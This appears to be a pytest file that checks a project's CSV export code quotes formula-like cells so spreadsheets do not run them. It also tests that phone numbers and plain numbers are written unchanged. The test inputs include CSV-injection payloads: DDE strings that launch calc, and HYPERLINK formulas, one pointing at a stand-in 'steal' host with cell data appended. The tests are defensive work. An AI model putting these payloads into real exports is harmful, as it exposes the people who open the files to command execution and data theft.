"""Exports are safe to open in a spreadsheet: formula-like cells are quoted, numbers and E.164 phones are not."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import polars as pl
import pytest

from crossline.exports import csv_safe

SRC = Path(__file__).resolve().parents[1] / "src" / "crossline"

ATTACKS = [
    '=HYPERLINK("http://example.invalid/x","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-inf",
    "+44 7700 900123",  # spaced: not E.164, so a formula to a spreadsheet
    "+44(0)7700 900123",
]
VALUES = ["+0447700900123",  # digits after a sign: a number to a spreadsheet, not a formula
          "-3", "-0.5", "1e3", "+2", "-1.5E-3", ".5", "+447700900123", "Ann", "", "O'Neil", "a=b", "07700 900123"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_like_cell_gets_a_leading_quote(cell: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    csv_safe.write_csv(pl.DataFrame({"value": [cell]}), out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == ["'" + cell]


@pytest.mark.parametrize("cell", VALUES)
def test_numbers_phones_and_plain_text_are_written_as_they_are(cell: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    csv_safe.write_csv(pl.DataFrame({"value": [cell]}), out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == [cell]


def test_non_text_columns_and_nulls_are_untouched() -> None:
    frame = pl.DataFrame({"n": [-3, 4], "f": [-0.5, None], "s": [None, "=1"]})
    safe = csv_safe.safe_frame(frame)
    assert safe["n"].to_list() == [-3, 4] and safe["f"].to_list() == [-0.5, None] and safe["s"].to_list() == [None, "'=1"]


def test_quarantine_export_quotes_a_partner_formula_and_parquet_keeps_it_raw(tmp_path: Path) -> None:
    from crossline.access.actor import LOCAL_ADMIN
    from crossline.service.exports import export
    from crossline.workspace import init_workspace
    from helpers import import_as_hub, write_bundle

    formula = '=HYPERLINK("http://example.invalid/steal?x="&A1,"open")'
    body = f'record_id,event_type,occurred_at\nE1,arrest,"{formula.replace(chr(34), chr(34) * 2)}"\nE2,arrest,2026-10-01\n'
    bundle = write_bundle(tmp_path / "b", {"e.csv": ("events", "gp", body)})
    ws = init_workspace(tmp_path / "ws")
    try:
        import_as_hub(ws, bundle)
        result = export(ws, LOCAL_ADMIN, tmp_path / "out")
    finally:
        ws.close()
    assert result.files["quarantine.csv"] == 1
    with open(tmp_path / "out" / "quarantine.csv", newline="", encoding="utf-8") as fh:
        row = list(csv.DictReader(fh))[0]
    assert row["value"] == "'" + formula
    assert row["line"] == "2"
    assert pl.read_parquet(tmp_path / "out" / "quarantine.parquet")["value"].to_list() == [formula]


# Modules that write CSV without csv_safe, and why that is right for each.
EXEMPT = {
    "exports/csv_safe.py": "the one writer",
    "store/bulk.py": "COPY FROM STDIN wire format to PostgreSQL, never a file a person opens",
}
EXEMPT_DIRS = {
    "sim": "the simulator writes the partners' side of the exchange (their bundle files), which must look as partners send them",
}
WRITES_CSV = re.compile(r"\.write_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|FORMAT\s+CSV|\bCOPY\b.*\bTO\b")


def test_no_module_writes_csv_except_through_csv_safe() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        if rel in EXEMPT or rel.split("/")[0] in EXEMPT_DIRS:
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITES_CSV.search(line) and "csv_safe." not in line:
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "write CSV through crossline.exports.csv_safe:\n" + "\n".join(offenders)
